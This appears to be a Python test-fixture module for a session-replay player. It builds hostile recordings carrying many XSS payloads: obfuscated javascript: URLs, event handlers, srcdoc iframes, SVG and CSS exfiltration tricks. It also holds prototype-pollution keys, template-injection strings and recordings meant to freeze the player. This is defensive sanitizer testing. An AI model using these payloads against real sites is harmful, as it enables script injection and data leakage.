r"""
A museum of hostile recordings: each exhibit tries to run something, ask for something, or freeze.

Whatever an exhibit asks for goes to the address it is given, and whatever it runs sets
``__pwned`` in the windows it reaches: a listener there, and a look at each frame, tell
whether it got out::

    museum = Museum("http://127.0.0.1:8999")
    for name, show in EXHIBITS.items():
        museum.enter(name, show)
    draft = museum.draft(session_id="museum", project="p")

Nothing in here is of use against anybody: addresses are the caller's own.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from typing import Any, Final

from replayport.draft import RecordingDraft
from replayport.posthog.lines import EventDecoder
from replayport.recording import Person

START_MS: Final = 1_700_000_000_000
BODY: Final = 4
"""Id of the page's body."""
HELLO: Final = "The museum is open"
LEAVING: Final = "The museum closes"
"""What the page says first and at its end."""

Json = dict[str, Any]


class Museum:
    """
    A recording that exhibits are put into.

    Attributes:
        base: Where requests of the exhibits go.
        run: Script that tells that it ran.
        nodes: What stands in the page from the beginning.
        person: Properties of who was recorded.
        analytics: Rows of `ANALYTICS_SCHEMA`.
    """

    def __init__(self, base: str) -> None:
        self.base = base
        self.run = (
            "for(const w of [window,parent,top])try{w.__pwned=1}catch{};"
            f"try{{document.title='pwned'}}catch{{}}fetch('{base}/ran')"
        )
        self.nodes: list[Json] = []
        self.person: Json = {}
        self.analytics: list[Json] = []
        self._later: list[tuple[str, int, Json]] = []
        self._room = ""
        self._last_id = 100
        self._windows: list[str] = []
        self._pages: list[str] = []

    def enter(self, name: str, show: Callable[[Museum], None]) -> None:
        """Put an exhibit in; addresses it asks for begin with its name."""
        self._room = name
        show(self)

    def url(self, what: str = "x") -> str:
        """Give an address of the listener's that says who asked."""
        return f"{self.base}/{self._room}/{what}"

    def id(self) -> int:
        """Give an id that no node has."""
        self._last_id += 1
        return self._last_id

    def text(self, content: str) -> Json:
        """Make a text."""
        return {"type": 3, "id": self.id(), "textContent": content}

    def node(
        self,
        tag: str,
        attributes: Mapping[str, Any] | None = None,
        *children: Json | str,
        svg: bool = False,
    ) -> Json:
        """Make an element."""
        node: Json = {
            "type": 2,
            "id": self.id(),
            "tagName": tag,
            "attributes": dict(attributes or {}),
            "childNodes": [self.text(c) if isinstance(c, str) else c for c in children],
        }
        return {**node, "isSVG": True} if svg else node

    def hang(
        self, tag: str, attributes: Mapping[str, Any] | None = None, *children: Json | str
    ) -> int:
        """Put an element into the page; give its id."""
        self.nodes.append(self.node(tag, attributes, *children))
        return int(self.nodes[-1]["id"])

    def svg(self, tag: str, attributes: Mapping[str, Any] | None = None, *children: Any) -> Json:
        """Make an element of SVG."""
        return self.node(tag, attributes, *children, svg=True)

    def draw(self, *children: Json, **attributes: Any) -> None:
        """Put a drawing into the page."""
        self.nodes.append(self.svg("svg", attributes, *children))

    def style(self, css: str) -> None:
        """Put a stylesheet in, in the three ways a recording can hold one."""
        self.hang("style", {}, css)
        self.hang("style", {"_cssText": css})
        self.later(8, id=self.hang("style", {}, "i{}"), adds=[{"rule": css, "index": 0}])

    def later(self, source: int, **data: Any) -> None:
        """Let an incremental event come after the page."""
        self._later.append(("w1", 3, {"source": source, **data}))

    def change(self, **lists: Any) -> None:
        """Let a mutation come after the page."""
        self.later(0, **{"texts": [], "attributes": [], "removes": [], "adds": [], **lists})

    def event(self, type_: int, data: Any) -> None:
        """Let an event of any type come after the page."""
        self._later.append(("w1", type_, data))

    def window(self, window_id: str) -> None:
        """Let another tab of that id be opened."""
        self._windows.append(window_id)

    def visit(self, href: str) -> None:
        """Let a page have that address."""
        self._pages.append(href)

    def events(self) -> list[tuple[str, Json]]:
        """
        Give the events, each with the id of its window.

        The nodes come in the first page, and once more by a mutation.
        """
        again = [{"parentId": BODY, "nextId": None, "node": self._copy(n)} for n in self.nodes]
        heading = {
            "type": 2,
            "id": 10,
            "tagName": "h1",
            "attributes": {},
            "childNodes": [{"type": 3, "id": 11, "textContent": HELLO}],
        }
        said = [
            ("w1", 4, _meta(self._pages[0] if self._pages else "https://shop.example/")),
            ("w1", 2, _page([heading, *self.nodes])),
            ("w1", 3, _mutation(adds=again)),
            *self._later,
        ]
        said += [
            ("w1", 5, {"tag": "$pageview", "payload": {"href": href}}) for href in self._pages[1:]
        ]
        for window_id in self._windows:
            said.append((window_id, 4, _meta("https://shop.example/")))
            said.append((window_id, 2, _page([heading])))
        said.append(("w1", 3, {"source": 2, "type": 2, "id": 10, "x": 9, "y": 9}))
        said.append(("w1", 3, _mutation(texts=[{"id": 11, "value": LEAVING}])))
        return [
            (window_id, {"type": type_, "timestamp": START_MS + 10 * i, "data": data})
            for i, (window_id, type_, data) in enumerate(said)
        ]

    def draft(self, *, session_id: str, project: str, distinct_id: str = "d") -> RecordingDraft:
        """Give the recording on its way into an archive."""
        return draft_of(
            self.events(),
            session_id=session_id,
            project=project,
            person=Person(distinct_id=distinct_id, properties=self.person),
            analytics=self.analytics,
        )

    def _copy(self, node: Json) -> Json:
        copy = {**node, "id": self.id()}
        if "childNodes" in node:
            copy["childNodes"] = [self._copy(child) for child in node["childNodes"]]
        return copy


def draft_of(
    events: Sequence[tuple[str, Json | bytes]], *, session_id: str, project: str, **fields: Any
) -> RecordingDraft:
    """Give events, as values or as JSON, on their way into an archive."""
    decoder = EventDecoder()
    for window_id, event in events:
        decoder.feed(window_id, event if isinstance(event, bytes) else json.dumps(event).encode())
    return RecordingDraft(
        project=project,
        session_id=session_id,
        columns=decoder.columns,
        source={"kind": "test"},
        rejected=decoder.rejected,
        findings=decoder.findings,
        **fields,
    )


def _meta(href: str, width: float = 800, height: float = 600) -> Json:
    return {"href": href, "width": width, "height": height}


def _mutation(**lists: Any) -> Json:
    return {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": [], **lists}


def _page(nodes: Sequence[Json]) -> Json:
    def element(node_id: int, tag: str, children: Sequence[Json]) -> Json:
        return {"type": 2, "id": node_id, "tagName": tag, "attributes": {}, "childNodes": children}

    root = element(3, "html", [element(5, "head", []), element(BODY, "body", list(nodes))])
    return {
        "node": {"type": 0, "id": 1, "childNodes": [root]},
        "initialOffset": {"left": 0, "top": 0},
    }


# --- script ---------------------------------------------------------------------------


def script_elements(m: Museum) -> None:
    """In every spelling an element can have."""
    for tag in ("script", "SCRIPT", "sCrIpT"):
        m.hang(tag, {}, m.run)
        m.hang(tag, {"src": m.url(tag)})
    m.hang("script", {"type": "module"}, f"import '{m.url('module')}';{m.run}")
    m.hang("script", {"type": "importmap"}, json.dumps({"imports": {"a": m.url("map")}}))
    rules = {"prefetch": [{"urls": [m.url("speculated")]}]}
    m.hang("script", {"type": "speculationrules"}, json.dumps(rules))
    m.hang("noscript", {}, f"<img src={m.url('noscript')} onerror={m.run}>")


def event_handlers(m: Museum) -> None:
    """As attributes, in all cases, on what fires by itself."""
    for name in ("onerror", "OnError", "ONERROR"):
        m.hang("img", {"src": "data:image/gif;base64,AAAA", name: m.run})
    m.hang("body", {"onload": m.run, "OnPageShow": m.run, "onmessage": m.run})
    m.hang("input", {"autofocus": "", "onfocus": m.run, "oninput": m.run})
    m.hang("details", {"open": "", "ontoggle": m.run}, m.node("summary", {}, "more"))
    m.hang("style", {"onload": m.run}, "b{}")
    m.hang("video", {"onloadstart": m.run, "src": "data:video/mp4;base64,AAAA"})
    m.hang("marquee", {"onstart": m.run, "onbounce": m.run}, "going")
    m.hang("div", {"onanimationstart": m.run, "style": "animation: x 1ms"}, m.node("i"))
    m.hang("div", {"onbeforetoggle": m.run, "popover": "", "onscrollend": m.run})
    m.change(attributes=[{"id": m.hang("p", {}, "p"), "attributes": {"onmouseover": m.run}}])


def script_addresses(m: Museum) -> None:
    """With controls, blanks and entities where a reader of addresses drops them."""
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        "\u00a0javascript:",
        "\u200bjavascript:",
        "java\u00adscript:",
        "javascript&colon;",
        "vbscript:",
        "data:text/html,",
        "blob:",
        "filesystem:",
        "view-source:javascript:",
    ):
        m.hang("a", {"href": scheme + m.run, "target": "_top"}, "go")
        m.hang("iframe", {"src": scheme + m.run})
        m.hang("form", {"action": scheme + m.run}, m.node("button", {"formaction": scheme + m.run}))
        m.hang("object", {"data": scheme + m.run})
        m.draw(m.svg("a", {"xlink:href": scheme + m.run}, m.svg("text", {}, "go")))
    m.hang("embed", {"src": f"data:image/svg+xml,<svg onload='{m.run}'/>"})


def documents_in_attributes(m: Museum) -> None:
    """``srcdoc`` and its like, in the page and later; sockets and peers from within."""
    html = (
        f"<script>{m.run};new WebSocket('{m.url('socket').replace('http', 'ws')}');"
        f"new RTCPeerConnection({{iceServers:[{{urls:'stun:{m.base.split('//')[-1]}'}}]}})"
        f".createDataChannel('x')</script><img src={m.url('srcdoc')}>"
    )
    m.hang("iframe", {"srcdoc": html})
    m.hang("IFRAME", {"SrcDoc": html, "sandbox": "allow-scripts allow-same-origin"})
    m.hang("template", {"shadowrootmode": "open"}, m.node("script", {}, m.run))
    m.hang("xmp", {}, html)
    m.hang("textarea", {}, f"</textarea>{html}")
    m.hang("title", {}, f"</title>{html}")
    m.change(attributes=[{"id": m.hang("iframe"), "attributes": {"srcdoc": html, "name": "_top"}}])


def svg_and_mathml(m: Museum) -> None:
    """Script, foreign objects, references and animations; names with a prefix."""
    go = f"javascript:{m.run}"
    m.draw(
        m.svg("script", {}, m.run),
        m.svg("svg:script", {}, m.run),
        m.svg("script", {"xlink:href": m.url("script")}),
        m.svg("foreignObject", {}, m.node("iframe", {"src": m.url("foreign")})),
        m.svg("a", {}, m.svg("animate", {"attributeName": "href", "values": go})),
        m.svg("a", {}, m.svg("set", {"attributeName": "xlink:href", "to": go})),
        m.svg("a", {}, m.svg("set", {"attributename": "HREF", "to": go})),
        m.svg("set", {"attributeName": "onmouseover", "to": m.run}),
        m.svg("animate", {"onbegin": m.run, "attributeName": "x", "dur": "1s"}),
        m.svg("use", {"href": m.url("use#a")}),
        m.svg("use", {"href": f"data:image/svg+xml,<svg id='a' onload='{m.run}'/>#a"}),
        m.svg("image", {"xlink:href": m.url("image")}),
        m.svg("image", {"href": f"data:image/svg+xml,<svg><image href='{m.url('in')}'/></svg>"}),
        m.svg("feImage", {"href": m.url("fe")}),
        m.svg("style", {}, f"@import '{m.url('style')}';"),
        m.svg("svg:style", {}, f"@import '{m.url('prefixed-style')}';"),
        m.svg("rect", {"fill": f"url({m.url('fill#a')})", "filter": f"url({m.url('filter#a')})"}),
        m.svg("rect", {"cursor": f"u\\72l({m.url('cursor')}), auto", "width": "9", "height": "9"}),
        m.svg("rect", {"mask": f"image-set('{m.url('mask')}' 1x)", "width": "9", "height": "9"}),
        onload=m.run,
    )
    m.hang("math", {}, m.node("maction", {"actiontype": "statusline", "xlink:href": go}, "x"))
    m.hang("math", {"href": go}, m.node("annotation-xml", {"encoding": "text/html"}, m.run))


# --- requests -------------------------------------------------------------------------


def elements_that_load(m: Museum) -> None:
    """By an attribute, when drawn."""
    for tag, name in (
        ("img", "src"),
        ("img", "srcset"),
        ("img", "rr_dataURL"),
        ("img", "attributionsrc"),
        ("image", "src"),
        ("iframe", "src"),
        ("frame", "src"),
        ("object", "data"),
        ("embed", "src"),
        ("video", "src"),
        ("video", "poster"),
        ("audio", "src"),
        ("table", "background"),
        ("body", "background"),
        ("input", "src"),
        ("applet", "archive"),
        ("fencedframe", "src"),
        ("portal", "src"),
        ("canvas", "rr_dataURL"),
    ):
        more = {"type": "image"} if tag == "input" else {"autoplay": "", "preload": "auto"}
        m.hang(tag, {name: m.url(f"{tag}-{name}"), **more})
        m.hang(tag.upper(), {name.upper(): m.url(f"{tag}-{name}-capitals"), **more})
    source = {"srcset": m.url("picture"), "src": m.url("source")}
    m.hang("picture", {}, m.node("source", source), m.node("img", {"alt": ""}))
    m.hang(
        "video", {}, m.node("source", source), m.node("track", {"src": m.url("t"), "default": ""})
    )


def links(m: Museum) -> None:
    """Each relation that makes a browser load or connect; some are beyond any policy."""
    for rel in (
        "stylesheet",
        "preload",
        "PreFetch",
        "prerender",
        "dns-prefetch",
        "preconnect",
        "modulepreload",
        "import",
        "icon",
        "apple-touch-icon",
        "manifest",
        "alternate stylesheet",
        "subresource",
        "expect",
        "compression-dictionary",
        "pingback",
    ):
        m.hang("link", {"rel": rel, "href": m.url(rel.replace(" ", "-")), "as": "image"})
        node_id = m.hang("link", {"as": "script", "imagesrcset": m.url("srcset")})
        m.change(attributes=[{"id": node_id, "attributes": {"rel": rel, "href": m.url("late")}}])


def one_id_twice(m: Museum) -> None:
    """What is remembered of an id is of one node; the change reaches the other."""
    link = m.node("link")
    harmless = {**m.node("b"), "id": link["id"]}
    m.nodes.append(m.node("div", {}, harmless))
    m.nodes.append(m.node("div", {}, m.node("i"), link))
    rel = {"rel": "preconnect", "href": m.url("preconnect")}
    m.change(attributes=[{"id": link["id"], "attributes": rel}])
    image = m.svg("image")
    m.nodes.append(m.node("div", {}, {**m.node("b"), "id": image["id"]}))
    m.nodes.append(m.node("div", {}, m.svg("svg", {}, image)))
    m.change(attributes=[{"id": image["id"], "attributes": {"href": m.url("image")}}])


def texts_before_their_style(m: Museum) -> None:
    """A text whose parent comes later in the same mutation turns out to be a stylesheet."""
    style = m.node("style")
    css = m.text(f"@import '{m.url()}'; b{{background:url({m.url('bg')})}}")
    m.change(
        adds=[
            {"parentId": style["id"], "nextId": None, "node": css},
            {"parentId": BODY, "nextId": None, "node": style},
        ]
    )
    m.change(texts=[{"id": css["id"], "value": f"@import '{m.url('late')}';"}])


def metas_and_bases(m: Museum) -> None:
    """What moves the page somewhere else."""
    m.hang("base", {"href": m.url("base/"), "target": "_top"})
    m.hang("img", {"src": "relative.png"})
    for name in ("http-equiv", "HTTP-EQUIV"):
        m.hang("meta", {name: "refresh", "content": f"0;url={m.url('refresh')}"})
        m.hang("meta", {name: "Content-Security-Policy", "content": f"report-uri {m.url('csp')}"})
        m.hang("meta", {name: "set-cookie", "content": "a=1"})
    refresh = {"http-equiv": "refresh", "content": f"0;url={m.url('late')}"}
    m.change(attributes=[{"id": m.hang("meta"), "attributes": refresh}])


def forms_and_top(m: Museum) -> None:
    """Forms, pings and links to the window around; pressed by the recording itself."""
    for target in ("_top", "_parent", "_blank", "opener"):
        form = {"action": m.url("form"), "method": "post", "target": target, "id": f"f{target}"}
        button = m.node("button", {"formaction": m.url("formaction"), "autofocus": ""}, "send")
        m.hang("form", form, m.node("input", {"name": "q", "value": "1"}), button)
        link = {"href": m.url("link"), "ping": m.url("ping"), "target": target, "rel": "opener"}
        pressed = m.hang("a", link, "out")
        for node_id in (pressed, int(button["id"])):
            for kind in (5, 2, 4):
                m.later(2, type=kind, id=node_id, x=5, y=5)
        m.later(5, id=int(button["id"]), text="x", isChecked=True)


def stylesheets(m: Museum) -> None:
    """Addresses in CSS, escaped, and where a reader of CSS can be led to see a string."""
    u = m.url
    for css in (
        f"@import '{u('import')}';",
        f"@import url({u('import-url')}) screen;",
        f"@\\69mport '{u('import-escaped')}';",
        f"body{{background:url({u('url')})}}",
        f"body{{background:u\\72l({u('url-escaped')})}}",
        f"body{{background:u\\\\72l({u('url-escaped-twice')})}}",
        f"body{{background:u@import 'x';rl({u('url-in-two')})}}",
        f'.a\\"b,body{{background:url({u("escaped-quote")})}}/*"*/',
        f'i{{content:"a\\\r\n "}}body{{background:url({u("line-end")})}}/*"*/',
        f'i{{background:url(data:image/png,\\)" )}}body{{background:url({u("bad-url")})}}/*"*/',
        f'i{{--a:nourl(data:image/png,")")}}body{{background:url({u("no-url")})}}/*"*/',
        f'i{{--a:nourl(#/*) "*/)}}body{{background:url({u("comment-in-url")})}}/*"*/',
        f"body{{background:image-set('{u('image-set')}' 1x)}}",
        f"body{{background:-webkit-image-set(url({u('webkit')}) 1x)}}",
        f"body{{background:image\\2d set('{u('image-set-escaped')}' 1x)}}",
        f"body{{background:image\\-set('{u('image-set-hyphen')}' 1x)}}",
        f"body{{background:image-set(/*)*/'{u('image-set-comment')}' 1x)}}",
        f"body{{--a:'{u('image-set-var')}';background:image-set(var(--a) 1x)}}",
        f"body{{background:image-set(linear-gradient(rgb(1,2,3),red) 9x,'{u('nested')}' 1x)}}",
        f"@font-face{{font-family:e;src:url({u('font')})}}body{{font-family:e}}",
        f"h1::after{{content:url({u('content')})}}li{{list-style:url({u('list')})}}",
        f"body{{cursor:url({u('cursor')}),auto;filter:url({u('filter#a')})}}",
        f"body{{-moz-binding:url({u('binding')});behavior:url({u('behavior')})}}",
        "body{width:expression(window.__pwned=1);background:url(javascript:window.__pwned=1)}",
        f"input[value^='a']{{background:url({u('leak')})}}",
    ):
        m.style(css)
    m.hang("div", {"style": f"background:url({u('inline')})"}, "x")
    node_id = m.hang("div", {"style": "color:red"}, "x")
    style = {"background": f"u\\72l({u('object')})", "--x": f"url({u('property')})"}
    m.change(attributes=[{"id": node_id, "attributes": {"style": style}}])
    m.change(attributes=[{"id": node_id, "attributes": {"_cssText": f"@import '{u('late')}'"}}])


def style_events(m: Museum) -> None:
    """Rules, declarations, adopted sheets and fonts as events of their own."""
    sheet = m.hang("style", {}, "b{color:red}")
    bad = f"b{{background:url({m.url('rule')})}}"
    declared = {"property": "background", "value": f"url({m.url('declared')})"}
    m.later(8, id=sheet, adds=[{"rule": bad, "index": [0]}], replaceSync=bad)
    m.later(13, id=sheet, index=[0], set=declared)
    m.later(15, id=1, styleIds=[1], styles=[{"styleId": 1, "rules": [{"rule": bad, "index": 0}]}])
    m.later(8, styleId=1, replace=bad)
    m.later(10, family="x", fontSource=f"url({m.url('font')})", buffer=False)
    m.later(10, family="y", fontSource=f"u\\72l({m.url('escaped')})", buffer=False)


# --- what draws, and what talks -------------------------------------------------------


def canvas_commands(m: Museum) -> None:
    """Properties of a context that lead to a constructor of functions, and images by address."""
    canvas = m.hang("canvas", {"width": "9", "height": "9"})
    image = {"rr_type": "HTMLImageElement", "src": m.url("image")}
    bitmap = {"rr_type": "ImageBitmap", "args": [{"rr_type": "Blob", "type": "text/html"}]}
    for name, args in (
        ("drawImage", [image, 0, 0]),
        ("drawImage", [bitmap, 0, 0]),
        ("constructor", [m.run]),
        ("__proto__", [{"x": 1}]),
        ("__defineGetter__", ["x", m.run]),
        ("toString", []),
        ("fillStyle", [f"url({m.url('fill')})"]),
        ("filter", [f"url({m.url('filter')})"]),
        ("font", [{"rr_type": "Function", "args": [m.run]}]),
    ):
        for setter in (False, True):
            command = {"property": name, "args": args, "setter": setter}
            m.later(9, id=canvas, type=0, commands=[command])
            m.later(9, id=canvas, type=1, **command)


def prototype_keys(m: Museum) -> None:
    """Keys that would reach ``Object.prototype`` where objects are copied."""
    poison = json.loads(
        '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'
    )
    node_id = m.hang("div", {**poison, "style": poison}, "x")
    m.change(attributes=[{"id": node_id, "attributes": {**poison, "style": poison}}])
    m.later(8, **{**poison, "id": node_id, "adds": [{"rule": "b{}", **poison}]})
    m.event(5, {"tag": "__proto__", "payload": poison})
    m.event(6, {"plugin": "__proto__", "payload": poison})
    m.event(4, {**_meta("https://shop.example/"), **poison})
    m.person.update(poison)
    m.analytics.append(_analytics("$set", properties=poison))


def shapes(m: Museum) -> None:
    """Events that are not what they should be."""
    wrong: list[Any] = [None, [], "text", 7, {"node": None}, {"node": {"type": 0, "childNodes": 3}}]
    for data in wrong:
        m.event(3, data)
    for source in (-1, 99, "0", None):
        m.later(source, id=1)  # type: ignore[arg-type]
    for source in range(17):
        m.later(source, id="x", positions="x", adds={"length": 10**9}, index=[10**12], args=5)
    m.later(10, family="z", fontSource="4000000000", buffer=True)
    m.later(10, family="z", fontSource='{"length": 4000000000}', buffer=True)
    m.later(1, positions=[{"id": 1, "x": 1e308, "y": -1e308, "timeOffset": -1e308}])
    m.later(4, width=1e12, height=1e12)
    m.later(4, width=-1, height=0)
    m.later(3, id=1, x=1e308, y=1e308)
    m.later(14, ranges=[{"start": 10, "startOffset": 1e300, "end": 10, "endOffset": -1}])
    m.change(removes=[{"id": 10**9, "parentId": 1}, {"id": 11, "parentId": 10**9}])
    loop = m.node("div")
    m.change(adds=[{"parentId": loop["id"], "nextId": loop["id"], "node": loop}])


def bridge_messages(m: Museum) -> None:
    """Texts that are commands of the player's own bridges, where something might say them."""
    for message in (
        {"kind": "page", "request": 1, "text": f"<img src={m.url('page')}>"},
        {"replayport": "seek", "value": 10**9},
    ):
        call = f"parent.postMessage({json.dumps(message)},'*');top.postMessage({json.dumps(message)},'*')"
        m.hang("img", {"src": "data:,", "onerror": call + ";" + m.run})
        m.event(5, {"tag": "message", "payload": message})


# --- what stands beside the player ----------------------------------------------------


def _markup(m: Museum) -> list[str]:
    return [
        f"<script>{m.run}</script>",
        f"<img src='{m.url('img')}' onerror=\"{m.run}\">",
        f'"><svg onload="{m.run}">',
        f"'><a href=javascript:{m.run}>x",
        f"</script><script>{m.run}</script>",
        f"</title></style></textarea><script>{m.run}</script>",
        f"<!--<script>-->{m.run}",
        "{{constructor.constructor('window.__pwned=1')()}}",
        "${window.__pwned=1}",
        "%RECORDING%%TITLE%",
        "\u202egnp.exe\u2066\u2028\u2029\x00\ufeff",
    ]


def _analytics(event: str, *, url: str = "", properties: Json | None = None, **ids: str) -> Json:
    return {
        "timestamp_ms": START_MS + 50,
        "uuid": ids.get("uuid", "u"),
        "event": event,
        "distinct_id": ids.get("distinct_id", "d"),
        "window_id": ids.get("window_id", "w1"),
        "url": url,
        "properties": json.dumps(properties or {}),
    }


def addresses(m: Museum) -> None:
    """Of pages: script, markup, direction marks, and longer than anybody reads."""
    for text in _markup(m):
        m.visit(f"https://shop.example/{text}")
    for text in (
        f"javascript:{m.run}",
        f"data:text/html,<script>{m.run}</script>",
        f"\tjava\nscript:{m.run}",
        f"https://user:secret@{m.base.split('//')[-1]}/",
        "https://shop.example/" + "long" * 5000,
        "https://[::bad",
        "//",
    ):
        m.visit(text)
        m.event(4, _meta(text))


def console_and_requests(m: Museum) -> None:
    """Markup in console lines, stacks, addresses of requests, custom events, plug-ins."""
    for text in _markup(m):
        line = {"level": text, "trace": [text], "payload": [json.dumps(text), text]}
        m.event(6, {"plugin": "rrweb/console@1", "payload": line})
        request = {
            "name": m.url("request") + text,
            "initiatorType": text,
            "method": text,
            "responseStatus": text,
            "startTime": 1,
            "duration": 1e300,
            "responseBody": text,
        }
        m.event(6, {"plugin": "rrweb/network@1", "payload": {"requests": [request, None, text]}})
        m.event(5, {"tag": text, "payload": {text: text, "href": text}})
        m.event(6, {"plugin": text, "payload": text})


def people_and_analytics(m: Museum) -> None:
    """Markup in properties, names of events, of models and of what they said."""
    for i, text in enumerate(_markup(m)):
        m.person[f"{text}{i}"] = text
        m.person["email"] = m.person["name"] = text
        m.analytics.append(
            _analytics(text, url=text, properties={text: text}, uuid=text, distinct_id=text)
        )
        llm = {"$ai_model": text, "$ai_input": [{"role": text, "content": text}], "$ai_error": text}
        m.analytics.append(_analytics("$ai_generation", properties={**llm, "$ai_trace_id": text}))


def windows(m: Museum) -> None:
    """Tabs whose ids are markup, or names of what every object has."""
    for text in (*_markup(m), "__proto__", "constructor", "", "../../etc", "w" * 5000):
        m.window(text)


def words_of_the_page(m: Museum) -> None:
    """Markup as text of what was clicked and typed, and as labels: told again as actions."""
    for text in _markup(m):
        label = {"aria-label": text, "title": text, "id": text, "class": text, "name": text}
        button = m.hang("button", label, text)
        m.later(2, type=2, id=button, x=3, y=3)
        field = m.hang("input", {"type": "text", "placeholder": text, **label})
        m.later(5, id=field, text=text, isChecked=False)
        m.hang("title", {}, text)


EXHIBITS: Final[dict[str, Callable[[Museum], None]]] = {
    show.__name__: show
    for show in (
        addresses,
        script_elements,
        event_handlers,
        script_addresses,
        documents_in_attributes,
        svg_and_mathml,
        elements_that_load,
        links,
        one_id_twice,
        texts_before_their_style,
        metas_and_bases,
        forms_and_top,
        stylesheets,
        style_events,
        canvas_commands,
        prototype_keys,
        bridge_messages,
        console_and_requests,
        people_and_analytics,
        words_of_the_page,
        windows,
        shapes,
    )
}
"""What fits into one recording."""


# --- recordings that freeze whoever plays them ----------------------------------------


def deep_page(m: Museum, depth: int = 5_000) -> list[tuple[str, Json | bytes]]:
    """Elements in one another, deeper than a stack, and as a mutation again."""
    add = {"parentId": BODY, "nextId": None, "node": "DEEP"}
    events = _timed([(2, _page([m.node("p", {}, HELLO)])), (3, _mutation(adds=[add]))])
    opening = "".join(
        f'{{"type":2,"tagName":"b","attributes":{{}},"id":{10**6 + i},"childNodes":['
        for i in range(depth)
    )
    # As text, because the encoder of JSON recurses.
    return [
        (window_id, json.dumps(event).replace('"DEEP"', opening + "]}" * depth).encode())
        for window_id, event in events
    ]


def wide_page(m: Museum, nodes: int = 20_000, changes: int = 100) -> list[tuple[str, Json | bytes]]:
    """Very many elements, and changes of many of them again and again."""
    page = _page([m.node("p", {}, HELLO), *(m.node("i") for _ in range(nodes))])
    ids = range(200, 700)
    said = [
        (3, _mutation(attributes=[{"id": n, "attributes": {"class": f"c{i}"}} for n in ids]))
        for i in range(changes)
    ]
    return [*_timed([(2, page), *said])]


def far_times(m: Museum) -> list[tuple[str, Json | bytes]]:
    """Moments centuries apart, out of order, at the ends of what a number holds."""
    events: list[tuple[str, Json | bytes]] = [
        *_timed([(2, _page([m.node("p", {}, HELLO)])), (3, _mutation())])
    ]
    for i, ms in enumerate((0, 1, START_MS * 2, 8_640_000_000_000_000, 2**53 - 1)):
        data = _mutation(texts=[{"id": 999 + i, "value": "x"}])
        events.append(("w1", {"type": 3, "timestamp": ms, "data": data}))
    return events


def huge_sizes(m: Museum) -> list[tuple[str, Json | bytes]]:
    """A window and elements of astronomic size, drawings repeated over and over."""
    style = "width:1e9px;height:1e9px;filter:blur(999px);border-radius:50%"
    boxes = [m.node("div", {"style": style, "rr_width": "1e9px", "rr_height": "1e9px"})]
    boxes.append(m.node("textarea", {"rows": "99999999", "cols": "99999999"}))
    boxes.append(m.node("table", {}, m.node("td", {"colspan": "99999", "rowspan": "99999"})))
    boxes.append(m.node("p", {}, HELLO))
    return [*_timed([(4, _meta("https://shop.example/", 1e15, 1e15)), (2, _page(boxes))])]


def wide_family(m: Museum, children: int = 130_000) -> list[tuple[str, Json | bytes]]:
    """More children of one element than a function takes arguments."""
    texts = [{"type": 3, "id": 10**6 + i, "textContent": ""} for i in range(children)]
    family = m.node("div")
    family["childNodes"] = texts
    return [*_timed([(2, _page([m.node("p", {}, HELLO), family]))])]


def one_instant(m: Museum, events: int = 130_000) -> list[tuple[str, Json | bytes]]:
    """More events at one moment than a function takes arguments, no two the same."""
    first = _timed([(2, _page([m.node("p", {}, HELLO)]))])
    at = {"type": 3, "timestamp": START_MS + 20}
    return [
        *first[:-1],
        *(("w1", {**at, "data": {"source": 3, "id": 4, "y": i}}) for i in range(events)),
        first[-1],
    ]


def one_mutation(m: Museum, changes: int = 100_000) -> list[tuple[str, Json | bytes]]:
    """One event that changes one text over and over, removes and adds what is not there."""
    p = m.node("p", {}, HELLO)
    i = m.node("i", {}, "x")
    text = i["childNodes"][0]["id"]
    data = _mutation(
        texts=[{"id": text, "value": str(n)} for n in range(changes)],
        removes=[{"id": 10**7 + n, "parentId": 10**7} for n in range(changes // 4)],
        adds=[
            {"parentId": 10**7 + n, "nextId": None, "node": {"type": 3, "id": 10**8 + n}}
            for n in range(changes // 100)
        ],
    )
    return [*_timed([(2, _page([p, i])), (3, data)])]


def slow_patterns(m: Museum, times: int = 60_000) -> list[tuple[str, Json | bytes]]:
    """Texts for whoever reads styles, addresses and console lines with patterns that go back."""
    sheets = ("url(", "/*", "@import ", "a{b:url('", "\\", ":hover", '"', "@media(", "{")
    styles = [m.node("style", {}, sheet * (times // len(sheet))) for sheet in sheets]
    styles.append(m.node("div", {"style": "background:url(" * (times // 15)}))
    styles.append(m.node("img", {"srcset": "a 1x, " * (times // 6), "src": " " * times + "x"}))
    styles.append(m.node("a", {"href": "java\tscript:" + " " * times, "data-x": "x" * 2 * 10**6}))
    line = {"level": "error", "trace": ["at " * times], "payload": ['"' + "\\" * times]}
    page = _page([m.node("p", {}, HELLO), *styles])
    return [*_timed([(2, page), (6, {"plugin": "rrweb/console@1", "payload": line})])]


def canvas_flood(m: Museum, commands: int = 50_000) -> list[tuple[str, Json | bytes]]:
    """A canvas of astronomic size, and very many commands for it in one event."""
    canvas = m.node("canvas", {"width": "99999999", "height": "99999999"})
    fill = {"property": "fillRect", "args": [0, 0, 1e9, 1e9]}
    data = {"source": 9, "id": canvas["id"], "type": 0, "commands": [fill] * commands}
    return [*_timed([(2, _page([m.node("p", {}, HELLO), canvas])), (3, data)])]


FREEZING: Final = {
    show.__name__: show
    for show in (
        deep_page,
        wide_page,
        wide_family,
        one_instant,
        one_mutation,
        slow_patterns,
        canvas_flood,
        far_times,
        huge_sizes,
    )
}
"""Recordings of their own: each makes the events, with the ids of their windows."""


def alone(body: Sequence[Json]) -> list[tuple[str, Json]]:
    """Give the events of a visit to a page of these elements and no more."""
    return _timed([(2, _page(body))])


def _timed(said: Sequence[tuple[int, Any]]) -> list[tuple[str, Json]]:
    whole = [*said, (3, {"source": 2, "type": 2, "id": 4, "x": 1, "y": 1})]
    if whole[0][0] != 4:
        whole.insert(0, (4, _meta("https://shop.example/")))
    return [
        ("w1", {"type": type_, "timestamp": START_MS + 20 * i, "data": data})
        for i, (type_, data) in enumerate(whole)
    ]
